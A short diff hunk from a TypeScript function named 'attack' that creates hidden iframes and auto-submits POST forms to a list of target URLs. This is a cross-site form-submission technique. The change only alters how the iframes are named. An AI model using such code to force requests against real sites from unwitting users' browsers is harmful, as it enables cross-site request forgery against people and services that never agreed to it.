@@ -221,7 +221,7 @@ async function attack(targets: readonly string[]): Promise<Record<string, string
   const byForm = (url: string): Promise<string> =>
     new Promise((resolve) => {
       const frame = document.createElement('iframe');
-      frame.name = `form-${String(Math.random())}`;
+      frame.name = `form-${String(document.querySelectorAll('iframe').length)}`;
       const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: frame.name });
       document.body.append(frame, form);
       form.submit();
